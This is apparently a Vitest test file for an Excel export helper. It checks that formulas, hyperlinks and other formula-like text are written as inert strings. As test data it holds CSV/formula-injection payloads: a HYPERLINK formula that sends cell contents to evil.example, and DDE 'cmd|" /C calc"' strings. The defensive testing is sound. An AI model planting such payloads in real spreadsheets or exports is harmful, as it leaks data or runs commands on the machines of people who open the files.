import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { EXCEL_TEXT_LIMIT, excelCell, excelText } from './excel-cell.ts';
import { writeWorkbook } from './excel-file.ts';

/** What exceljs itself would turn into something other than a plain value, as a faulty server might send it. */
const HOSTILE: [string, unknown][] = [
  ['a formula', { formula: 'HYPERLINK("https://evil.example/?"&B2,"x")', result: 'x' }],
  ['a shared formula', { sharedFormula: 'A1', result: 1 }],
  ['a hyperlink', { text: 'click', hyperlink: 'https://evil.example' }],
  ['rich text', { richText: [{ text: 'bold', font: { bold: true } }] }],
  ['an error value', { error: '#REF!' }],
  ['an array', ['a', 1]],
];

async function readBack(rows: unknown[][]): Promise<ExcelJS.Worksheet> {
  const bytes = await writeWorkbook({ name: 'Export', headers: rows[0]!.map((_, index) => `C${index}`), rows });
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes);
  return workbook.worksheets[0]!;
}

describe('excelCell', () => {
  it('keeps strings, finite numbers and valid dates, and leaves nothing for null and undefined', () => {
    const date = new Date(Date.UTC(2026, 10, 20, 14, 32));
    expect(excelCell('Ayşe Yılmaz')).toBe('Ayşe Yılmaz');
    expect(excelCell(1266.5)).toBe(1266.5);
    expect(excelCell(0)).toBe(0);
    expect(excelCell(date)).toEqual(date);
    expect(excelCell(null)).toBeNull();
    expect(excelCell(undefined)).toBeNull();
  });

  it('writes no number Excel cannot read and no invalid date', () => {
    expect(excelCell(Number.NaN)).toBeNull();
    expect(excelCell(Number.POSITIVE_INFINITY)).toBeNull();
    expect(excelCell(new Date('not a date'))).toBeNull();
  });

  it.each(HOSTILE)('writes %s as its JSON text', (_what, value) => {
    expect(excelCell(value)).toBe(JSON.stringify(value));
  });

  it('writes other values as their text', () => {
    expect(excelCell(true)).toBe('true');
    expect(excelCell(12345678901234567890n)).toBe('12345678901234567890');
    expect(excelCell(() => 1)).toBeNull();
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    expect(excelCell(cyclic)).toBe('[object Object]');
  });

  it.each([
    ['=HYPERLINK("https://evil.example","x")', `'=HYPERLINK("https://evil.example","x")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+9)*cmd|" /C calc"!A0', `'@SUM(1+9)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['- iptal edildi', `'- iptal edildi`],
  ])('neutralises formula-like text %j for a CSV round trip', (text, written) => {
    expect(excelText(text)).toBe(written);
    expect(excelCell(text)).toBe(written);
    // Idempotent: a neutralised text is not neutralised twice.
    expect(excelText(written)).toBe(written);
  });

  it.each(['+90 532 111 00 03', '+90 (532) 111-00-03', '-5', '-1.5', '-', 'Merkez = Ana bina', "'quoted"])(
    'keeps text that cannot run as it is: %j',
    (text) => {
      expect(excelText(text)).toBe(text);
    },
  );

  it("cuts text to Excel's limit of one cell", () => {
    expect(excelText('x'.repeat(EXCEL_TEXT_LIMIT + 10))).toHaveLength(EXCEL_TEXT_LIMIT);
  });
});

describe('a workbook written from hostile values', () => {
  it('reads back only strings, numbers, dates and empty cells: no formula, link, rich text or error', async () => {
    const date = new Date(Date.UTC(2026, 10, 20, 14, 32));
    const sheet = await readBack([[...HOSTILE.map(([, value]) => value), Number.NaN, date, 42, '=1+1', null]]);
    const row = sheet.getRow(2);
    const types: ExcelJS.ValueType[] = [];
    for (let column = 1; column <= HOSTILE.length + 5; column++) types.push(row.getCell(column).type);
    const { String: text, Number: number, Date: day, Null: empty } = ExcelJS.ValueType;
    expect(types).toEqual([...HOSTILE.map(() => text), empty, day, number, text, empty]);
    HOSTILE.forEach(([, value], index) => {
      const cell = row.getCell(index + 1);
      expect(cell.value).toBe(JSON.stringify(value));
      expect(cell.formula).toBeUndefined();
      expect(cell.hyperlink).toBeUndefined();
    });
    expect(row.getCell(HOSTILE.length + 2).value).toEqual(date);
    expect(row.getCell(HOSTILE.length + 3).value).toBe(42);
    expect(row.getCell(HOSTILE.length + 4).value).toBe("'=1+1");
  });

  it('neutralises formula-like headers and filter values too', async () => {
    const bytes = await writeWorkbook({
      name: 'Users',
      headers: ['=Name'],
      rows: [['Ayşe']],
      filters: [['Name', '=1+1']],
      filterSheet: { name: 'Filters', field: 'Field', value: 'Value' },
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes);
    expect(workbook.worksheets[0]!.getCell('A1').value).toBe("'=Name");
    expect(workbook.worksheets[1]!.getCell('B2').value).toBe("'=1+1");
    expect(workbook.worksheets[1]!.getCell('B2').type).toBe(ExcelJS.ValueType.String);
  });
});
